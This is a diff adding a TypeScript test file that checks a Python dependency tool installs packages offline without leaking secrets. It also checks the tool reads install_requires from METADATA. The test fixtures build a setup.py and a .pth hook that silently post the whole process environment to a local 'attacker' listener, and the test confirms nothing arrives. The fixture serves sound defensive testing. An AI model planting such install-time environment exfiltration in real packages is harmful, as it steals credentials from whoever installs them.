@@ -1,0 +1,127 @@
+// The dependency step only downloads: against a local PEP 503 index on 127.0.0.1 with credentials
+// in PIP_INDEX_URL, an sdist whose setup.py and a wheel whose .pth post their environment to a
+// listener get installed, and nothing reaches the listener (the sdist is built, and everything
+// installed, with no network and no secret). And a setup.py-only project's runtime requirements,
+// named only in its install_requires, are read from its METADATA and installed (a wheel from the
+// index, a package from Debian): its suite passes.
+import { mkdirSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterAll, describe, expect, it } from 'vitest';
+import { DockerEngine } from '../../runtime/engine/docker-engine.js';
+import { runCli } from '../helpers/cli.js';
+import { NO_PIP, envRows, envScratch, listener } from '../helpers/env-repos.js';
+import { buildSdist, buildWheel, serveSimpleIndex } from '../helpers/wheels.js';
+
+const engine = new DockerEngine();
+const repos = envScratch('piper-env-download-');
+afterAll(() => repos.cleanup(engine));
+
+/** Python that posts its whole environment to the listener, and says nothing when it cannot. */
+function postEnvironment(port: number, path: string): string {
+  return [
+    'try:',
+    '    import json, os, urllib.request',
+    `    urllib.request.urlopen("http://127.0.0.1:${port}${path}", data=json.dumps(dict(os.environ)).encode(), timeout=3)`,
+    'except Exception:',
+    '    pass',
+  ].join('\n');
+}
+
+interface Step {
+  name: string;
+  network: string;
+  exit_code: number;
+}
+
+describe('an sdist-only and a .pth-carrying distribution from an index with credentials', () => {
+  it('builds and installs them offline: nothing reaches the listener, the suite passes', async () => {
+    const attacker = await listener();
+    const dir = join(repos.scratch, 'index-files');
+    mkdirSync(dir, { recursive: true });
+    const sdist = buildSdist(dir, 'leaky', '1.0', {
+      'setup.py': `${postEnvironment(attacker.port, '/sdist')}\nfrom setuptools import setup\nsetup(name="leaky", version="1.0", py_modules=["leaky"])\n`,
+      'leaky.py': 'def leak():\n    return "built offline"\n',
+    });
+    const pthCode = postEnvironment(attacker.port, '/pth');
+    const wheel = buildWheel(dir, 'pthy', '1.0', {
+      'pthy.py': 'def answer():\n    return 42\n',
+      'pthy_hook.pth': `import sys; exec(${JSON.stringify(pthCode)})\n`,
+    });
+    const secret = 'S3cret-download-only';
+    const index = await serveSimpleIndex([sdist, wheel], { user: 'ci', password: secret });
+    const repo = repos.newRepo('sdist-pth', {
+      'requirements.txt': 'leaky==1.0\npthy==1.0\n',
+      'tests/test_it.py':
+        'import leaky, pthy\n\ndef test_both():\n    assert leaky.leak() == "built offline"\n    assert pthy.answer() == 42\n',
+    });
+    try {
+      const r = await runCli(['run-test', 'tests/', '--repo', repo, '--json'], {
+        env: { ...NO_PIP, PIP_INDEX_URL: index.url },
+      });
+      expect(r.code, r.stderr.slice(-3000)).toBe(0);
+      expect(attacker.requests).toEqual([]);
+      // The index was asked, with the credentials, for the wheel and for the sdist's file itself.
+      expect(index.requests.some((q) => q.path === '/files/pthy-1.0-py3-none-any.whl' && q.authorized)).toBe(
+        true,
+      );
+      expect(index.requests.some((q) => q.path === '/files/leaky-1.0.tar.gz' && q.authorized)).toBe(true);
+      const [row] = envRows(repo);
+      expect(row!.status).toBe('built');
+      expect(row!.sources).toMatch(/sdist: leaky: leaky-1\.0\.tar\.gz: no wheel; its sdist built offline/);
+      const steps = JSON.parse(row!.steps) as Step[];
+      const build = steps.find((s) => s.name === 'build leaky-1.0.tar.gz')!;
+      expect(build).toMatchObject({ network: 'none', exit_code: 0 });
+      expect(steps.find((s) => s.name === 'install')).toMatchObject({ network: 'none', exit_code: 0 });
+      // Every step that ran pip or the sdist fetcher with the credentials had a network and installed nothing.
+      for (const s of steps.filter((x) => x.name === 'pip' || x.name.startsWith('fetch ')))
+        expect(s.network).not.toBe('none');
+      const resolved = JSON.parse(row!.resolved) as Array<{ name: string; version: string }>;
+      expect(resolved).toContainEqual(expect.objectContaining({ name: 'leaky', version: '1.0' }));
+      expect(resolved).toContainEqual(expect.objectContaining({ name: 'pthy', version: '1.0' }));
+      expect(`${r.stdout}${r.stderr}${row!.steps}`).not.toContain(secret);
+    } finally {
+      await Promise.all([attacker.close(), index.close()]);
+    }
+  });
+});
+
+describe('a setup.py-only project whose runtime requirements only its install_requires names', () => {
+  it('installs them from its METADATA (a wheel from the index, attrs from Debian): its suite passes', async () => {
+    const dir = join(repos.scratch, 'topup-files');
+    mkdirSync(dir, { recursive: true });
+    const tiny = buildWheel(dir, 'tinydep', '1.2', { 'tinydep.py': 'def double(x):\n    return 2 * x\n' });
+    const index = await serveSimpleIndex([tiny], { user: 'ci', password: 'S3cret-topup' });
+    const repo = repos.newRepo('setup-py-only', {
+      'setup.py':
+        'from setuptools import setup\nsetup(name="codedeps", version="0.1", py_modules=["codedeps"], install_requires=["attrs", "tinydep>=1", "never-here; python_version < \'3\'"])\n',
+      'codedeps.py':
+        'import attr\nimport tinydep\n\n@attr.s\nclass Box:\n    x = attr.ib()\n\ndef doubled(x):\n    return Box(tinydep.double(x)).x\n',
+      'tests/test_codedeps.py':
+        'import codedeps\n\ndef test_doubled():\n    assert codedeps.doubled(21) == 42\n',
+    });
+    try {
+      const plan = await runCli(['env', 'plan', '--json', '--repo', repo], { env: NO_PIP });
+      const planned = (JSON.parse(plan.stdout) as { requirements: Array<{ normalized: string }> })
+        .requirements;
+      // The plan cannot see them (setup.py is never run on the host): only the METADATA says so.
+      expect(planned.map((q) => q.normalized)).not.toContain('tinydep');
+      expect(planned.map((q) => q.normalized)).not.toContain('attrs');
+      const r = await runCli(['run-test', 'tests/', '--repo', repo, '--json'], {
+        env: { ...NO_PIP, PIP_INDEX_URL: index.url },
+      });
+      expect(r.code, r.stderr.slice(-3000)).toBe(0);
+      const result = JSON.parse(r.stdout) as { counts: { passed: number; failed: number } };
+      expect(result.counts).toMatchObject({ passed: 1, failed: 0 });
+      const [row] = envRows(repo);
+      expect(row!.sources).toMatch(
+        /top-up [0-9a-f]{12}: attrs, tinydep>=1 \(named only in the project's build code\)/,
+      );
+      expect(row!.sources).toContain('debian: python3-attr');
+      const resolved = JSON.parse(row!.resolved) as Array<{ name: string; version: string; source: string }>;
+      expect(resolved).toContainEqual({ name: 'tinydep', version: '1.2', source: 'pip' });
+      expect(resolved).toContainEqual(expect.objectContaining({ name: 'attrs', source: 'debian' }));
+    } finally {
+      await index.close();
+    }
+  });
+});
